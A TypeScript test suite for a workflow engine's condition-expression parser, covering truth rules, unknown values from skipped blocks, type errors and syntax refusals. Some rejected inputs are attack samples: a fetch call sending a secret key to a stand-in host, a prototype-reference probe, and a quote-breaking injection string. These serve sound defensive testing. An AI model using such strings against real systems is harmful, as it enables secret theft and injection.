import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { parseCondition } from "../../../src/core/expression/parse-condition.ts";
import { isWorkflowError } from "../../../src/core/model/errors.ts";
import { holds, refusal } from "./scope-of.ts";

const world = {
  inputs: { n: 20, zero: 0, t: true, f: false, none: null, env: "production", list: [1, "a", { k: [1] }], object: { key: 1 }, empty: {} },
  blocks: { gone: null, done: { outputs: { ok: true } } },
};

describe("conditions that hold", () => {
  test.each([
    "true",
    "True",
    "1 < ${inputs.n} < 30",
    "${inputs.n} == 20",
    "20.0 == ${inputs.n}",
    "-1 < 0",
    "1e3 == 1000",
    "${inputs.env} == 'production'",
    '${inputs.env} == "production"',
    "'${inputs.env}' == 'production'",
    "'in ${inputs.env}' == 'in production'",
    "'it\\'s' == \"it's\"",
    "'\\u0041\\n' == 'A\n'",
    "'$${x}' != ''",
    "'prod' in ${inputs.env}",
    "'x' not in ${inputs.env}",
    "${inputs.n} in [10, 20, 30]",
    "'a' in ${inputs.list}",
    "'key' in ${inputs.object}",
    "'toString' not in ${inputs.object}",
    "[1, 'a'] == [1, 'a']",
    "${inputs.object} == ${inputs.object}",
    "not ${inputs.f}",
    "not ${inputs.n} == 4",
    "not not true",
    "${inputs.t} or ${inputs.f} and ${inputs.f}",
    "not ${inputs.f} and ${inputs.t}",
    "((${inputs.n} > 1) and (${inputs.n} < 50)) or ${inputs.f}",
    "${inputs.none} == null",
    "${inputs.none} == None",
    "1 != '1'",
    "${inputs.t} != 1",
    "'10' < '9'",
    "'\u{1f600}' > '\uffff'",
    "${inputs.list[2].k[0]} == 1",
    "true or ${inputs.list} < 1",
    "${blocks.done.ok}",
    "[0]",
  ])("%s", (text) => {
    expect(holds(text, world)).toBe(true);
  });
});

describe("conditions that do not hold", () => {
  test.each([
    "false",
    "None",
    "0",
    "''",
    "[]",
    "${inputs.none}",
    "${inputs.zero}",
    "${inputs.empty}",
    "1 < ${inputs.n} < 10",
    "(${inputs.t} or ${inputs.f}) and ${inputs.f}",
    "1 == '1'",
    "[] == 0",
    "true == 1",
    "null == false",
    "'10.0.0' >= '2.0.0'",
    "false and ${inputs.list} < 1",
    "1 > 2 < ${inputs.list}",
  ])("%s", (text) => {
    expect(holds(text, world)).toBe(false);
  });
});

describe("what looks at a field of a skipped block is unknown, and the unknown counts as false", () => {
  const field = "${blocks.gone.outputs.f}";
  const unknown = [
    field,
    `${field} == 1`,
    `${field} != 1`,
    `${field} == null`,
    `${field} == ${field}`,
    `${field} in [1]`,
    `1 not in [${field}]`,
    `'${field}' != 'a'`,
    `0 < 1 < ${field}`,
    `true and ${field} == 1`,
    `false or ${field} == 1`,
    `not ${field} == 1 and not false`,
  ];

  test.each(unknown)("%s", (text) => {
    expect(holds(text, world)).toBe(false);
    expect(holds(`not (${text})`, world)).toBe(false);
    expect(holds(`not not (${text})`, world)).toBe(false);
  });

  test("what is known decides beside it", () => {
    expect(holds(`${field} == 1 or true`, world)).toBe(true);
    expect(holds(`not (${field} == 1 and false)`, world)).toBe(true);
    expect(holds(`not (${field} < 3 < 1)`, world)).toBe(true);
    expect(holds(`not (2 < 1 < ${field})`, world)).toBe(true);
  });
});

describe("values that cannot be compared are an error with the position of the comparison", () => {
  test.each<[string, string]>([
    ["null < 1", "EXPRESSION_TYPE 6"],
    ["1 < '2'", "EXPRESSION_TYPE 3"],
    ["true > false", "EXPRESSION_TYPE 6"],
    ["[1] < [2]", "EXPRESSION_TYPE 5"],
    ["${inputs.list} >= 1", "EXPRESSION_TYPE 16"],
    ["1 in 'a1'", "EXPRESSION_TYPE 3"],
    ["1 in 2", "EXPRESSION_TYPE 3"],
    ["'a' not in null", "EXPRESSION_TYPE 5"],
  ])("%s", (text, expected) => {
    expect(refusal(() => holds(text, world))).toBe(expected);
  });
});

describe("refused when parsed, with the position", () => {
  test.each<[string, string]>([
    ["", "EXPRESSION_SYNTAX 1"],
    ["inputs.x == 1", "EXPRESSION_SYNTAX 1"],
    ["eval('1')", "EXPRESSION_SYNTAX 1"],
    ["fetch('https://example.invalid/' + secrets.KEY)", "EXPRESSION_SYNTAX 1"],
    ["${inputs.n} + 1 == 6", "EXPRESSION_SYNTAX 13"],
    ["${inputs.x}.lower() == 'yes'", "EXPRESSION_SYNTAX 12"],
    ["${inputs.x == 'yes'}", "EXPRESSION_SYNTAX 12"],
    ["${(${inputs.x} == 'yes')}", "EXPRESSION_SYNTAX 3"],
    ["x = 1", "EXPRESSION_SYNTAX 1"],
    ["1 = 1", "EXPRESSION_SYNTAX 3"],
    ["true && true", "EXPRESSION_SYNTAX 6"],
    ["a?.b ?? c", "EXPRESSION_SYNTAX 1"],
    ["`${1}`", "EXPRESSION_SYNTAX 1"],
    ["{} in inputs", "EXPRESSION_SYNTAX 1"],
    ["nan == nan", "EXPRESSION_SYNTAX 1"],
    ["[x for x in y]", "EXPRESSION_SYNTAX 2"],
    ["1 ==", "EXPRESSION_SYNTAX 5"],
    ["(1 == 1", "EXPRESSION_SYNTAX 8"],
    ["1 == 1)", "EXPRESSION_SYNTAX 7"],
    ["'abc", "EXPRESSION_SYNTAX 1"],
    ["'\\q'", "EXPRESSION_SYNTAX 2"],
    ["1 not 2", "EXPRESSION_SYNTAX 7"],
    ["true false", "EXPRESSION_SYNTAX 6"],
    ["1 == not true", "EXPRESSION_SYNTAX 6"],
    ["007 == 7", "EXPRESSION_SYNTAX 1"],
    ["9007199254740993 == 1", "EXPRESSION_SYNTAX 1"],
    ["1e999 == 1", "EXPRESSION_SYNTAX 1"],
    ["${__internal__.stack} == 1", "REFERENCE_FORBIDDEN 3"],
    ["'${inputs.__proto__}' == ''", "REFERENCE_FORBIDDEN 11"],
    ["(".repeat(60), "LIMIT_EXCEEDED 50"],
    ["not ".repeat(60), "LIMIT_EXCEEDED 197"],
    ["[".repeat(60), "LIMIT_EXCEEDED 50"],
    ["1 == 2 or ".repeat(500), "LIMIT_EXCEEDED 4001"],
    ["not ".repeat(20_000), "LIMIT_EXCEEDED 4001"],
  ])("%s", (text, expected) => {
    expect(refusal(() => parseCondition(text))).toBe(expected);
  });

  test("with what to write instead", () => {
    expect(() => parseCondition("env == 'a'")).toThrow("${inputs.env}");
    expect(() => parseCondition("1 && 2")).toThrow('"and"');
    expect(() => parseCondition("1 = 2")).toThrow('"=="');
  });
});

test("a wrong word is repeated in the message as far as it takes to find it", () => {
  for (const word of ["9".repeat(3_900), "x".repeat(3_900)]) {
    expect(() => parseCondition(`${word} > 1`)).toThrow(/^[^]{1,300}$/);
  }
});

test("S2: no value changes what a condition asks: a text equals itself and nothing else", () => {
  fc.assert(
    fc.property(fc.string({ unit: "binary" }), (value) => {
      const given = { inputs: { v: value, same: value } };
      expect(holds("'${inputs.v}' == 'approved'", given)).toBe(value === "approved");
      expect(holds("${inputs.v} == ${inputs.same} and '<${inputs.v}>' == '<${inputs.same}>'", given)).toBe(true);
    }),
  );
  expect(holds("'${inputs.v}' == 'approved'", { inputs: { v: "x' or '1' == '1" } })).toBe(false);
});

test("texts are ordered by code point", () => {
  const byPoint = (a: string, b: string): number => {
    const [left, right] = [Array.from(a), Array.from(b)];
    const at = left.findIndex((character, i) => character !== right[i]);
    if (at === -1) return left.length - right.length;
    return at >= right.length ? 1 : left[at]!.codePointAt(0)! - right[at]!.codePointAt(0)!;
  };
  fc.assert(
    fc.property(fc.string({ unit: "grapheme" }), fc.string({ unit: "grapheme" }), (a, b) => {
      expect(holds("${inputs.a} < ${inputs.b}", { inputs: { a, b } })).toBe(byPoint(a, b) < 0);
    }),
  );
});

test("no text makes the parser throw anything but a WorkflowError", () => {
  const piece = fc.constantFrom(
    "${inputs.x}",
    "${",
    "}",
    "==",
    "<",
    "not",
    " in ",
    "and",
    "(",
    ")",
    "[",
    "]",
    ",",
    "'",
    '"',
    "\\",
    "1",
    "-",
    "true",
    " ",
    "\u0000",
  );
  fc.assert(
    fc.property(
      fc.oneof(
        fc.string({ unit: "binary" }),
        fc.array(piece, { maxLength: 60 }).map((pieces) => pieces.join("")),
      ),
      (text) => {
        try {
          parseCondition(text);
        } catch (thrown) {
          expect(isWorkflowError(thrown)).toBe(true);
        }
      },
    ),
    { numRuns: 1_000 },
  );
});
